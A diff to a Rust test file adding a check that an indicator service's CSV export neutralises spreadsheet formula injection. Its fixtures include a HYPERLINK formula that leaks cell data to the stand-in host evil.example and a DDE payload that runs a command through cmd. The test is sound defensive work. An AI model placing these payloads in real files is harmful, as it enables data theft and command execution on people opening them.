@@ -13,7 +13,7 @@ use samverkan::{
     entities::indicator,
     store::{self, Actor},
 };
-use serde_json::Value;
+use serde_json::{Value, json};
 use uuid::Uuid;
 
 use crate::helpers::*;
@@ -425,7 +425,75 @@ async fn json_stat_is_a_valid_dataset(backend: Backend) {
     assert!(jsonstat_validator::validate(&flat, &Default::default()).valid);
 }
 
+/// A note, an organisation name or any text cell that a spreadsheet would run as a formula is
+/// written as text (OWASP's rule), with `,` and with `;`.
+async fn the_export_neutralises_formulas(backend: Backend) {
+    let Some(f) = Fixture::new(backend).await else {
+        return;
+    };
+    let evil = f
+        .app
+        .create_organisation(json!({"name": "=1+2 Förening", "kind": "ngo"}))
+        .await;
+    let evil = evil["id"].as_str().unwrap();
+    let notes = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Öppna\")",
+        "@cmd",
+        "+46 470 000",
+        "-1",
+        "=SUMMA(A1:A9)",
+    ];
+    let rows: Vec<Value> = notes
+        .iter()
+        .enumerate()
+        .map(|(i, note)| {
+            json!({"organisation_id": evil, "period": format!("{}", 2015 + i), "value": 1.5,
+                   "note": note, "source_ref": "=cmd|' /C calc'!A0"})
+        })
+        .collect();
+    let response = f
+        .app
+        .client
+        .put(
+            f.app
+                .url(&format!("/api/v1/indicators/{}/values", f.indicator.id)),
+        )
+        .bearer_auth(admin())
+        .json(&json!({ "values": rows }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(
+        response.status(),
+        StatusCode::OK,
+        "{}",
+        response.text().await.unwrap()
+    );
+    for (query, delimiter) in [("", b','), ("?delimiter=%3B", b';')] {
+        let text = f.export(query).await;
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .from_reader(text.as_bytes());
+        let mut seen = 0;
+        for record in reader.records() {
+            let record = record.unwrap();
+            for (i, cell) in record.iter().enumerate() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "a live formula in column {i}: {cell:?}"
+                );
+            }
+            assert_eq!(&record[2], "'=1+2 Förening");
+            assert!(record[9].starts_with('\''), "{:?}", &record[9]);
+            assert_eq!(&record[10], "'=cmd|' /C calc'!A0");
+            seen += 1;
+        }
+        assert_eq!(seen, notes.len());
+    }
+}
+
 crate::on_both_backends!(
+    the_export_neutralises_formulas,
     csv_round_trip_is_identical,
     semicolon_delimiter_keeps_swedish_text,
     a_bad_row_refuses_the_whole_file,
